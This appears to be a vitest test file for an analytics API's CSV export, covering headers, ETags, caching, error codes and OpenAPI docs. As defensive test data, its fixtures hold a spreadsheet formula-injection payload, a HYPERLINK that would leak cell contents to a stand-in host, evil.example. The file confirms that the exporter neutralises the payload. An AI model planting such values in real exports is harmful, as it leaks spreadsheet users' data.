import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, createTenant, eventRow, insertEvents, startHarness, type Harness, type Reply, type Tenant } from './harness.js';
import { RANGE, insertDataset } from './dataset.js';

/** The clock of the API under test (relative ranges and cache lifetimes resolve against it). */
const NOW = Date.parse('2026-01-10T12:00:00Z');
const CSV_TYPE = 'text/csv; charset=utf-8; header=present';
const JSON_TYPE = 'application/json; charset=utf-8';

let h: Harness;
let t: Tenant;
let other: Tenant;
/** A site whose visitors sent values a spreadsheet would run as formulas. */
let hostile: Tenant;

beforeAll(async () => {
  h = await startHarness({ now: () => NOW, rateLimit: { perSecond: 1000, burst: 1000 } });
  t = await createTenant(h.url);
  other = await createTenant(h.url, { domain: 'other.example' });
  hostile = await createTenant(h.url, { domain: 'hostile.example' });
  await insertDataset(h.storage, t.siteId);
  await insertDataset(h.storage, other.siteId);
  const at = (session: string, plan: string) => ({ site_id: hostile.siteId, visitor_id: `v_${session}`, session_id: session, props: { plan } });
  await insertEvents(h.storage, [
    eventRow({ ts: '2026-01-05T10:00:00Z', ...at('h1', '=HYPERLINK("http://evil.example/?leak="&A1,"Click")') }),
    eventRow({ ts: '2026-01-05T11:00:00Z', ...at('h2', '=HYPERLINK("http://evil.example/?leak="&A1,"Click")') }),
    eventRow({ ts: '2026-01-05T12:00:00Z', ...at('h3', '-2+3') }),
    eventRow({ ts: '2026-01-06T10:00:00Z', ...at('h4', 'straße, "quoted"') }),
  ]);
});
afterAll(async () => h?.close());

type Headers = Record<string, string>;

function query(body: Record<string, unknown>, headers: Headers = {}, tenant: Tenant = t): Promise<Reply> {
  return call(h.url, 'POST', '/v1/query', { token: tenant.readKey, body: { site_id: tenant.siteId, date_range: RANGE, ...body }, headers });
}

const asCsv = (body: Record<string, unknown>, headers: Headers = {}, tenant: Tenant = t) => query(body, { accept: 'text/csv', ...headers }, tenant);

/** Each answer row as one CSV line, the fields as JSON writes them (these rows need no quoting). */
function linesOf(json: { results: { dimensions: string[]; metrics: number[] }[] }): string[] {
  return json.results.map((r) => [...r.dimensions, ...r.metrics.map((m) => JSON.stringify(m))].join(','));
}

describe('CSV export of POST /v1/query', () => {
  it('answers a breakdown as CSV with the JSON answer\'s rows, a file name and the meta headers', async () => {
    const body = { metrics: ['visitors', 'pageviews', 'bounce_rate'], dimensions: ['page'], order_by: [['visitors', 'desc'], ['page', 'asc']] };
    const json = await query(body);
    expect(json.status).toBe(200);
    const csv = await asCsv(body);
    expect(csv.status).toBe(200);
    expect(csv.body).toBe(
      'page,visitors,pageviews,bounce_rate\r\n' +
        '/,2,2,50\r\n' +
        '/pricing,2,2,50\r\n' +
        '/blog/post-1,1,1,0\r\n' +
        '/blog/post-2,1,1,0\r\n',
    );
    // The same rows, in the same order, as the JSON answer's.
    expect(csv.body).toBe(['page,visitors,pageviews,bounce_rate', ...linesOf(json.body)].map((l) => `${l}\r\n`).join(''));
    expect(csv.headers.get('content-type')).toBe(CSV_TYPE);
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="pulse-${t.siteId}-20260105T000000Z-20260107T000000Z.csv"`);
    expect(csv.headers.get('vary')).toBe('Accept');
    expect(json.headers.get('vary')).toBe('Accept');
    expect(csv.headers.get('x-pulse-complete-through')).toBe(json.body.meta.complete_through);
    expect(csv.headers.get('x-pulse-complete-through')).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(csv.headers.get('x-pulse-has-more')).toBe('false');
    expect(csv.headers.get('x-pulse-warnings')).toBeNull();
    expect(csv.headers.get('x-ratelimit-limit')).toBe('1000');
    expect(csv.headers.get('x-ratelimit-remaining')).not.toBeNull();
    expect(csv.headers.get('content-length')).toBe(String(Buffer.byteLength(csv.body)));
    expect(csv.headers.get('access-control-expose-headers')).toContain('Content-Disposition');
  });

  it('writes a series compared with the period before: each metric\'s previous value and change, and the compared bucket', async () => {
    const body = { metrics: ['visitors', 'bounce_rate'], dimensions: ['time:day'], compare: 'previous_period' };
    const json = await query(body);
    const csv = await asCsv(body);
    expect(csv.status).toBe(200);
    expect(csv.body).toBe(
      'time:day,visitors,bounce_rate,time:day_previous,visitors_previous,bounce_rate_previous,visitors_change,bounce_rate_change\r\n' +
        '2026-01-05T00:00:00+00:00,2,50,2026-01-03T00:00:00+00:00,0,0,,50\r\n' +
        '2026-01-06T00:00:00+00:00,2,50,2026-01-04T00:00:00+00:00,1,0,100,50\r\n',
    );
    // Checked against the JSON answer's comparison, field by field.
    const fromJson = json.body.results.map(
      (r: { dimensions: string[]; metrics: number[]; comparison: { dimensions: string[]; metrics: number[]; change: (number | null)[] } }) =>
        [...r.dimensions, ...r.metrics, r.comparison.dimensions[0], ...r.comparison.metrics, ...r.comparison.change].map((v) => (v === null ? '' : String(v))).join(','),
    );
    expect(csv.body.split('\r\n').slice(1, -1)).toEqual(fromJson);
  });

  it('answers 304 to the CSV\'s own ETag, and never to the other representation\'s', async () => {
    const body = { metrics: ['pageviews'], dimensions: ['country'] };
    const json = await query(body);
    const csv = await asCsv(body);
    const jsonTag = json.headers.get('etag') as string;
    const csvTag = csv.headers.get('etag') as string;
    expect(csvTag).toMatch(/^"[A-Za-z0-9_-]{32}"$/);
    expect(csvTag).not.toBe(jsonTag);

    const again = await asCsv(body, { 'if-none-match': csvTag });
    expect(again.status).toBe(304);
    expect(again.body).toBeUndefined();
    expect(again.headers.get('etag')).toBe(csvTag);
    expect(again.headers.get('vary')).toBe('Accept');
    expect((await asCsv(body, { 'if-none-match': `W/${csvTag}` })).status).toBe(304);

    // The JSON's tag does not validate the CSV, nor the CSV's the JSON.
    const csvForJsonTag = await asCsv(body, { 'if-none-match': jsonTag });
    expect(csvForJsonTag.status).toBe(200);
    expect(csvForJsonTag.body).toBe(csv.body);
    const jsonForCsvTag = await query(body, { 'if-none-match': csvTag });
    expect(jsonForCsvTag.status).toBe(200);
    expect(jsonForCsvTag.body).toEqual(json.body);
    expect((await query(body, { 'if-none-match': jsonTag })).status).toBe(304);
  });

  it('serves JSON and CSV of one query from one cache entry without handing either the other\'s body', async () => {
    const csvFirst = { metrics: ['visitors'], dimensions: ['device'], order_by: [['visitors', 'desc'], ['device', 'asc']] };
    const a = await asCsv(csvFirst);
    expect([a.status, a.headers.get('x-cache'), a.headers.get('content-type')]).toEqual([200, 'miss', CSV_TYPE]);
    expect(a.body).toBe('device,visitors\r\ndesktop,1\r\nmobile,1\r\ntablet,1\r\n');
    const b = await query(csvFirst);
    expect([b.status, b.headers.get('x-cache'), b.headers.get('content-type')]).toEqual([200, 'hit', JSON_TYPE]);
    expect(linesOf(b.body)).toEqual(['desktop,1', 'mobile,1', 'tablet,1']);
    const c = await asCsv(csvFirst);
    expect([c.headers.get('x-cache'), c.headers.get('content-type'), c.body]).toEqual(['hit', CSV_TYPE, a.body]);

    const jsonFirst = { metrics: ['visitors'], dimensions: ['browser'] };
    const d = await query(jsonFirst);
    expect([d.headers.get('x-cache'), d.headers.get('content-type')]).toEqual(['miss', JSON_TYPE]);
    const e = await asCsv(jsonFirst);
    expect([e.headers.get('x-cache'), e.headers.get('content-type'), e.body]).toEqual(['hit', CSV_TYPE, 'browser,visitors\r\nFirefox,2\r\nChrome,1\r\n']);
    expect((await query(jsonFirst)).body).toEqual(d.body);

    // Asked at the same moment: one run, each caller in its own format.
    const together = { metrics: ['visitors'], dimensions: ['os'] };
    const [f, g] = await Promise.all([query(together), asCsv(together)]);
    expect(new Set([f.headers.get('x-cache'), g.headers.get('x-cache')])).toEqual(new Set(['miss', 'shared']));
    expect(f.headers.get('content-type')).toBe(JSON_TYPE);
    expect(linesOf(f.body)).toEqual(['Linux,2', 'iOS,1']);
    expect([g.headers.get('content-type'), g.body]).toEqual([CSV_TYPE, 'os,visitors\r\nLinux,2\r\niOS,1\r\n']);
  });

  it('answers another merchant\'s site with the same JSON 404 as a missing one', async () => {
    for (const siteId of [other.siteId, 's_0000000000000000']) {
      const r = await asCsv({ metrics: ['visitors'], site_id: siteId });
      expect(r.status).toBe(404);
      expect(r.headers.get('content-type')).toBe(JSON_TYPE);
      expect(r.body).toEqual({ error: { code: 'not_found', message: 'site not found' } });
    }
  });

  it('keeps errors JSON whatever Accept says', async () => {
    const bad = await asCsv({ metrics: ['nonsense'] });
    expect(bad.status).toBe(400);
    expect(bad.headers.get('content-type')).toBe(JSON_TYPE);
    expect(bad.body.error.code).toBe('invalid_request');
    const anonymous = await call(h.url, 'POST', '/v1/query', { body: { site_id: t.siteId, metrics: ['visitors'], date_range: RANGE }, headers: { accept: 'text/csv' } });
    expect(anonymous.status).toBe(401);
    expect(anonymous.body).toEqual({ error: { code: 'unauthorized', message: 'missing, unknown or revoked key' } });
  });

  it('answers 406 to an Accept that allows neither JSON nor CSV, after the read key, with a typed JSON error', async () => {
    const r = await query({ metrics: ['visitors'] }, { accept: 'application/xml' });
    expect(r.status).toBe(406);
    expect(r.headers.get('content-type')).toBe(JSON_TYPE);
    expect(r.body).toEqual({
      error: { code: 'not_acceptable', message: 'cannot answer in a type the Accept header allows (application/xml); available: application/json, text/csv' },
    });
    expect(r.headers.get('x-ratelimit-limit')).toBe('1000');
    expect(r.headers.get('vary')).toBe('Accept');
    // Refused by weight, too; and a wildcard after it is JSON.
    expect((await query({ metrics: ['visitors'] }, { accept: 'text/csv;q=0, application/json;q=0' })).status).toBe(406);
    const wildcard = await query({ metrics: ['visitors'] }, { accept: 'application/xml, */*;q=0.1' });
    expect([wildcard.status, wildcard.headers.get('content-type')]).toEqual([200, JSON_TYPE]);
    // Without a valid key it is 401 first: nothing is said about formats to a stranger.
    const anonymous = await call(h.url, 'POST', '/v1/query', { body: {}, headers: { accept: 'application/xml' } });
    expect(anonymous.status).toBe(401);
  });

  it('guards prop values a spreadsheet would run as formulas, and quotes the rest as RFC 4180 says', async () => {
    const r = await asCsv({ metrics: ['visitors'], dimensions: ['prop:plan'], order_by: [['visitors', 'desc'], ['prop:plan', 'asc']] }, {}, hostile);
    expect(r.status).toBe(200);
    expect(r.body).toBe(
      'prop:plan,visitors\r\n' +
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2\r\n` +
        "'-2+3,1\r\n" +
        '"straße, ""quoted""",1\r\n',
    );
  });

  it('carries meta.warnings in X-Pulse-Warnings as header-safe JSON', async () => {
    const mixed = await createTenant(h.url, { domain: 'mixed.example' });
    await insertEvents(h.storage, [
      eventRow({ site_id: mixed.siteId, ts: '2026-01-05T10:00:00Z', name: 'purchase', revenue_amount: 10, revenue_currency: 'EUR' }),
      eventRow({ site_id: mixed.siteId, ts: '2026-01-05T11:00:00Z', name: 'purchase', revenue_amount: 5, revenue_currency: 'USD' }),
    ]);
    const body = { metrics: ['revenue'] };
    const json = await query(body, {}, mixed);
    expect(json.body.meta.warnings?.length).toBeGreaterThan(0);
    const csv = await asCsv(body, {}, mixed);
    expect(csv.body).toBe('revenue\r\n15\r\n');
    expect(csv.headers.get('x-pulse-warnings')).toBe(JSON.stringify(json.body.meta.warnings));
  });

  it('is described in /openapi.json: the text/csv answer with its headers, and the 406', async () => {
    const doc = (await call(h.url, 'GET', '/openapi.json')).body;
    const op = doc.paths['/v1/query'].post;
    expect(Object.keys(op.responses['200'].content)).toEqual(['application/json', 'text/csv']);
    expect(op.responses['200'].content['application/json'].schema).toEqual({ $ref: '#/components/schemas/QueryResponse' });
    expect(op.responses['200'].content['text/csv'].schema.description).toContain('leading `\'`');
    expect(Object.keys(op.responses['200'].headers)).toEqual(
      expect.arrayContaining(['ETag', 'Vary', 'Content-Disposition', 'X-Pulse-Complete-Through', 'X-Pulse-Warnings', 'X-Pulse-Has-More']),
    );
    expect(op.responses['406'].content['application/json'].schema).toEqual({ $ref: '#/components/schemas/Error' });
    expect(op.responses['406'].description).toContain('not_acceptable');
    expect(op.description).toContain('Errors are JSON whatever `Accept` says');
  });
});
